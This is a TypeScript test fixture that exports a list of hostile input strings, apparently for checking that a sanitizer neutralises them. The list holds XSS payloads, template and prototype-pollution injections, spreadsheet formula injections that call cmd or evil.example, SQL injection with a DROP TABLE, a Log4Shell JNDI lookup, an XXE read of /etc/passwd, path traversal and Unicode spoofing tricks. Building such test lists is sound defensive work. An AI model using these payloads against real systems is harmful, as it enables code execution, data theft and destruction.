/**
 * Texts that once executed, became markup or misled readers somewhere; each calls `hit()` when executed. Compiled for
 * these tests, grouped by context.
 */
const LINES = String.raw`
<script>hit()</script>
<ScRiPt>hit()</sCrIpT>
<scr<script>ipt>hit()</scr</script>ipt>
"><script>hit()</script>
'><script>hit()</script>
</title><script>hit()</script>
</textarea><script>hit()</script>
--><script>hit()</script>
</script><script>hit()</script>
<img src=x onerror=hit()>
<img src=x onerror="hit()">
<input autofocus onfocus=hit()>
<button autofocus onfocus=hit()>x</button>
<body onload=hit()>
<iframe src=javascript:hit()></iframe>
<iframe srcdoc="<script>parent.hit()</script>"></iframe>
<object data=javascript:hit()></object>
<video src=x onerror=hit()></video>
<details open ontoggle=hit()>
<dialog open onclose=hit()></dialog>
<div onmouseover=hit() style=position:fixed;inset:0>x</div>
<xss id=x tabindex=1 onfocus=hit()></xss>
<x oncontentvisibilityautostatechange=hit() style=content-visibility:auto>
<a onclick=hit()>x</a>
<a href=javascript:hit()>x</a>
<a href="java&#10;script:hit()">x</a>
<form action=javascript:hit()><button>x</button></form>
<base href=//evil.example/>
<meta http-equiv=refresh content="0;url=javascript:hit()">
<meta http-equiv=refresh content="0;url=//evil.example">
<link rel=stylesheet href=//evil.example/a.css>
<style>@import '//evil.example/a.css';</style>
<p style="background:url(javascript:hit())">x</p>
<svg onload=hit()>
<svg/onload=hit()>
<math href=javascript:hit()>x</math>
<noscript><p title="</noscript><img src=x onerror=hit()>">
<template><img src=x onerror=hit()></template>
<!--<img src="--><img src=x onerror=hit()//">
<![CDATA[<img src=x onerror=hit()>]]>
<?xml version="1.0"?><?xml-stylesheet href="javascript:hit()"?>
<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>
<!--[if gte IE 4]><script>hit()</script><![endif]-->
" onmouseover=hit() x="
' onfocus=hit() autofocus x='
" autofocus onfocus=hit() x
x onerror=hit()
javascript:hit()
javascript://%0ahit()
javascript:/*--></title></style></textarea></script><svg/onload='hit()'>//
jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(hit())//
data:text/html,<script>hit()</script>
blob:hit()
';hit();//
";hit();//
\";hit();//
\x3cscript\x3ehit()\x3c/script\x3e
\u003cscript\u003ehit()\u003c/script\u003e
%3Cscript%3Ehit()%3C/script%3E
%253Cscript%253Ehit()%253C/script%253E
&lt;script&gt;hit()&lt;/script&gt;
&#60;script&#62;hit()&#60;/script&#62;
&amp;lt;img src=x onerror=hit()&amp;gt;
+ADw-script+AD4-hit()+ADw-/script+AD4-
{{constructor.constructor('hit()')()}}
{{$on.constructor('hit()')()}}
{{7*7}}
#{7*7}
<%= hit() %>
[[\${hit()}]]
@(hit())
v-html="'<img src=x onerror=hit()>'"
{"__proto__":{"innerHTML":"<img src=x onerror=hit()>"}}
{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=hit()>"}}
{"$$typeof":"Symbol(react.element)","type":"img","props":{"onError":"hit()"}}
__proto__[innerHTML]=<img/src/onerror=hit()>
[x](javascript:hit())
![x](x"onerror="hit())
<javascript:hit()>
[x]: javascript:hit()
=HYPERLINK("https://evil.example","x")
=cmd|' /C calc'!A0
+1+cmd|' /C calc'!A0
-2+3+cmd|' /C calc'!A0
@SUM(1+1)*cmd|' /C calc'!A0
=IMPORTXML("https://evil.example/","//a")
;=1+1
' or 1=1--
"; drop table enquiries; --
\${jndi:ldap://evil.example/a}
../../../../etc/passwd
`;

/** Bidirectional marks, zero-width characters, look-alikes and lone surrogates. */
const SIGNS = [
  '\u202e<img src=x onerror=hit()>\u202c',
  '\u2066</p>\u2069<script>hit()</script>',
  '\u200b=1+1',
  '\ufeff<script>hit()</script>',
  '\uff1cscript\uff1ehit()\uff1c/script\uff1e',
  '\u02bascript\u02bahit()',
  '<\u200bscript>hit()</script>',
  '<scr\u00adipt>hit()</script>',
  '\ud83d<img src=x onerror=hit()>',
  'java\u2028script:hit()',
  '\u0131mg <\u0131mg src=x onerror=hit()>',
  'p\u0430ypal.example/login',
  `${'\u0301'.repeat(40)}<svg onload=hit()>`,
  '\u{e0041}\u{e0042}<script>hit()</script>',
];

export const HOSTILE_TEXTS: readonly string[] = [...LINES.trim().split('\n'), ...SIGNS];
